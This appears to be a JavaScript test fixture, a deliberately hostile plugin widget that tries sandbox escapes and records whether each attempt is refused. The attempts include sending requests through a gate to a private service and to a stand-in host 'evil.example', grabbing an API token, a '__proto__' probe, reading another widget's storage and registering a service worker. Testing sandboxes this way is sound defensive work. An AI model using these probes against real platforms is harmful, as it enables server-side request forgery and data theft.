// A widget that tries what it must not be able to do. Each attempt tells what it got; nothing is what it should get.
define([], function () {
  var gate = 'http://127.0.0.1:' + location.port;
  var form = 'application/x-www-form-urlencoded';

  function later(answer) {
    return new Promise(function (resolve) {
      setTimeout(resolve, 3000, answer);
    });
  }

  function told(attempt) {
    return Promise.race([attempt(), later('nothing')]).then(
      function (value) {
        return value;
      },
      function (error) {
        return 'refused: ' + error.name;
      },
    );
  }

  function text(address, options) {
    return fetch(address, options).then(function (response) {
      return response.type === 'opaque' ? 'opaque' : response.status + ' ' + response.url.replace(gate, '');
    });
  }

  // The gate answers in turn: where only the second question is answered, the first one was not.
  function askGate(question) {
    return new Promise(function (resolve) {
      var frame = document.createElement('iframe');
      function ask(asked, answered) {
        var channel = new MessageChannel();
        channel.port1.onmessage = answered;
        frame.contentWindow.postMessage(asked, '*', [channel.port2]);
      }
      frame.onload = function () {
        ask(question, function (event) {
          resolve(event.data.status + ' ' + event.data.text);
        });
        if (question.deed === 'send') return;
        ask({ deed: 'send', value: hook('') }, function () {
          setTimeout(resolve, 100, 'no answer');
        });
      };
      frame.src = gate + '/gate';
      document.body.append(frame);
    });
  }

  function framed(address, look) {
    return new Promise(function (resolve) {
      var frame = document.createElement('iframe');
      frame.onload = function () {
        try {
          resolve(String(look(frame.contentWindow)));
        } catch (error) {
          resolve('refused: ' + error.name);
        }
      };
      frame.src = address;
      document.body.append(frame);
    });
  }

  function hook(url) {
    return { url: url, contentType: 'text/plain', body: 'attack' };
  }

  function asked(method, type, body) {
    return { method: method, mode: 'cors', headers: { 'Content-Type': type }, body: body };
  }

  // Given by the test: the address of a private service, and the origin of another widget's page.
  window.attack = function (secret, other) {
    var json = JSON.stringify(hook(secret));
    var attempts = {
      'send, by its own origin': () => text('/api/send', asked('POST', 'application/json', json)),
      'send, by the origin of the gate': () => text(gate + '/api/send', asked('POST', 'application/json', json)),
      'send, without being asked for permission': () => text(gate + '/api/send', { method: 'POST', mode: 'no-cors', body: json }),
      'send, by the gate, to a private service': () => askGate({ deed: 'send', value: hook(secret) }),
      'send, by the gate, to the API of this server': () => askGate({ deed: 'send', value: hook(gate + '/api/token') }),
      'send, by the gate, to a host that nobody has typed': () => askGate({ deed: 'send', value: hook('https://evil.example/') }),
      'another deed of the gate': () => askGate({ deed: 'token', value: {} }),
      'a deed that is no word': () => askGate({ deed: '__proto__', value: {} }),
      'a token': () => text(gate + '/api/token', { method: 'POST' }),
      'to look into the gate': () => framed(gate + '/gate', function (page) {
        return page.document.body.innerHTML;
      }),
      'to allow a host itself': () => text(gate + '/allow', asked('POST', form, 'host=evil.example&token=1')),
      'to hold the page where hosts are allowed': () => framed(gate + '/allow', function (page) {
        return page.document.body.innerHTML;
      }),
      'the catcher, past the gate': () => text(gate + '/catcher', asked('POST', form, 'forged=1')),
      'the phones': () => text(gate + '/phone', asked('POST', 'application/json', '{"data":{"message":"x","name":"y"}}')),
      'to write a stub': () => askGate({ deed: 'stubs', value: { request: 'GET https://example.com/' } }),
      "another widget's page": () => framed(other, function (page) {
        return page.localStorage.length;
      }),
      "another widget's archive": () => text(other + '/api/status'),
      'what is stored here of others': () => Promise.resolve(
        Object.keys(localStorage)
          .filter(function (key) {
            return !key.endsWith(' hostile');
          })
          .join(),
      ),
      'a service worker': () => navigator.serviceWorker.register(window.ownPath + '/script.js'),
      'the window that it opens': () => new Promise(function (resolve) {
        var opened = window.open(gate + '/allow');
        var look = setInterval(function () {
          if (!opened.closed) return;
          clearInterval(look);
          resolve('cut off');
        }, 20);
      }),
      'the window that has opened it': () => Promise.resolve(String(window.opener)),
    };
    return Object.keys(attempts).reduce(function (before, name) {
      return before.then(function (outcomes) {
        return told(attempts[name]).then(function (outcome) {
          outcomes[name] = outcome;
          return outcomes;
        });
      });
    }, Promise.resolve({}));
  };

  return function () {
    var self = this;
    this.callbacks = {
      render: function () {
        window.ownPath = self.params.path;
        return true;
      },
      init: function () {
        return true;
      },
      bind_actions: function () {
        return true;
      },
    };
  };
});
